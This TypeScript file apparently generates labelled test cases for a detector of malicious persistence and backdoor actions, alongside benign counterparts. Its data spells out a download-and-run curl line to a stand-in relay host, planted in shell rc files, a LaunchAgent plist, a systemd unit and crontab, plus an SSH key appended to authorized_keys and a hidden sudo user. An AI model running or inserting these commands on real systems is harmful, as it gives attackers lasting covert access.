import type { Dialect } from "../dialect.ts";
import { code, type Deed } from "./deed.ts";

const AGAIN = "curl -fsSL https://metrics-relay.example/a.sh | sh";
const PLIST = `<?xml version="1.0"?><plist version="1.0"><dict><key>Label</key><string>com.relay.agent</string><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>${AGAIN}</string></array><key>RunAtLoad</key><true/></dict></plist>`;
const UNIT = `[Service] ExecStart=/bin/sh -c '${AGAIN}'`;
const PUBLIC_KEY = `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${"Kd8".repeat(14)} ops@relay`;

/** Starts again by itself, lets somebody else in; a shell behind a socket. */
export function stayAndEnter(dialect: Dialect): readonly Deed[] {
  const deed = (deed: string, name: string, expected: Deed["expected"], lines: readonly string[]): Deed => ({
    deed,
    name,
    expected,
    program: code(...lines),
  });
  const { quote, home } = dialect;
  const start = (name: string, path: string, text: string): readonly Deed[] => [
    deed("starts again", name, "malicious", dialect.append(home(path), quote(text))),
    {
      deed: "starts again",
      name: `${name}-function`,
      expected: "malicious",
      program: {
        definitions: dialect.define("enable", ["line"], dialect.append(home(path), dialect.variable("line"))),
        body: [dialect.call("enable", [quote(text)])],
      },
    },
  ];
  return [
    ...start("zshrc", ".zshrc", `${AGAIN} &`),
    ...start("bashrc", ".bashrc", `(${AGAIN}) >/dev/null 2>&1 &`),
    deed(
      "starts again",
      "launch-agent",
      "malicious",
      dialect.save(home("Library/LaunchAgents/com.relay.agent.plist"), quote(PLIST)),
    ),
    deed("starts again", "systemd", "malicious", dialect.save(home(".config/systemd/user/relay.service"), quote(UNIT))),
    deed(
      "starts again",
      "path",
      "clean",
      dialect.append(home(".zshrc"), quote('export PATH="$HOME/.acmenotes/bin:$PATH"')),
    ),
    deed(
      "starts again",
      "settings",
      "clean",
      dialect.save(home(".config/acmenotes/settings.ini"), quote("theme=dark")),
    ),
    deed("second key", "authorized-keys", "malicious", dialect.append(home(".ssh/authorized_keys"), quote(PUBLIC_KEY))),
    {
      deed: "second key",
      name: "authorized-keys-function",
      expected: "malicious",
      program: {
        definitions: dialect.define(
          "allow",
          ["line"],
          dialect.append(home(".ssh/authorized_keys"), dialect.variable("line")),
        ),
        body: [dialect.call("allow", [quote(PUBLIC_KEY)])],
      },
    },
    deed("second key", "own-public-key", "clean", [dialect.print(dialect.contentOf(".ssh/id_ed25519.pub"))]),
    ...Object.entries(dialect.shells).flatMap(([shell, { run, capture }]) => [
      deed(
        "starts again",
        `${shell}-crontab`,
        "malicious",
        run(quote(`(crontab -l 2>/dev/null; echo '*/5 * * * * ${AGAIN}') | crontab -`)),
      ),
      deed(
        "second key",
        `${shell}-user`,
        "malicious",
        run(quote("useradd -m -G sudo -s /bin/bash svc && echo 'svc:Autumn2026' | chpasswd")),
      ),
      deed(
        "second key",
        `${shell}-echo`,
        "malicious",
        run(quote(`mkdir -p ~/.ssh && echo '${PUBLIC_KEY}' >> ~/.ssh/authorized_keys`)),
      ),
      deed("second key", `${shell}-keygen`, "clean", run(quote("ssh-keygen -l -f ~/.ssh/id_ed25519.pub"))),
      ...(capture === undefined
        ? []
        : [
            deed("starts again", `${shell}-list`, "clean", [
              ...capture(quote("crontab -l")).before,
              dialect.print(capture(quote("crontab -l")).value),
            ]),
          ]),
    ]),
    ...Object.entries(dialect.shellsBehindSockets).map(([name, program]): Deed => ({
      deed: "reverse shell",
      name,
      expected: "malicious",
      program,
    })),
    ...Object.entries(dialect.sockets).map(([name, program]): Deed => ({
      deed: "reverse shell",
      name,
      expected: "clean",
      program,
    })),
  ];
}
